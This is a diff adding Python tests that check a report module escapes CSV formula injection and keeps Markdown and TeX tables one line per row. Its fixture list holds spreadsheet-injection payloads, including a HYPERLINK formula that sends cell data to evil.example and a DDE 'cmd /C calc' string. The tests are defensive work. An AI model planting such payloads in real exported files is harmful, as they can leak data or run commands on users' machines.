@@ -292,3 +292,43 @@ def test_a_long_f_n_schedule_shows_as_its_full_steps():
     assert schedule in render(df, "csv")
     short = "F P0 \\| F N"
     assert short in render(pd.DataFrame({"schedule": ["F P0 | F N"]}), "md")
+
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(1+1)", "\tTAB=1", "\rCR=1", "two\nlines | and a bar", "ok\r\nCRLF",
+           "line\u2028separator"]
+
+
+def _hostile_results():
+    results = _results()
+    results["rows"] = [dict(results["rows"][k % 4], name=name) for k, name in enumerate(HOSTILE)]
+    results["rows"][0]["experiment"] = "=1+1"
+    return results
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
+    """OWASP's CSV injection advice: a text cell starting = + - @ tab or CR gets a leading
+    apostrophe; numbers (negative ones too) stay numbers."""
+    (_, csv_path, _) = report.write_tables(_hostile_results(), tmp_path)
+    csv = pd.read_csv(csv_path, keep_default_na=False)
+    names = csv["name"].tolist()
+    for raw, cell in zip(HOSTILE, names, strict=True):
+        assert cell == ("'" + raw if raw[0] in "=+-@\t\r" else raw)
+    assert csv["experiment"][0] == "'=1+1"
+    assert not any(str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for column in csv.columns if csv[column].dtype == object
+                   for cell in csv[column])
+    results = _hostile_results()
+    results["rows"][1]["measured_speedup"] = -1.5
+    assert pd.read_csv(io.StringIO(report.render(report.table(results), "csv")))[
+        "measured speedup"][1] == -1.5
+
+
+def test_markdown_and_tex_keep_one_line_per_row_for_hostile_names(tmp_path):
+    df = report.table(_hostile_results())
+    md = report.render(df, "md")
+    assert len(md.splitlines()) == 2 + len(df)  # a name's line break adds no row
+    rows = _markdown_rows(md)
+    assert [r["name"] for r in rows][6:8] == ["two<br>lines | and a bar", "ok<br>CRLF"]
+    tex = report.render(df, "tex")
+    assert tex.count(r"\\") == len(df) + 1 and "\n\n" not in tex
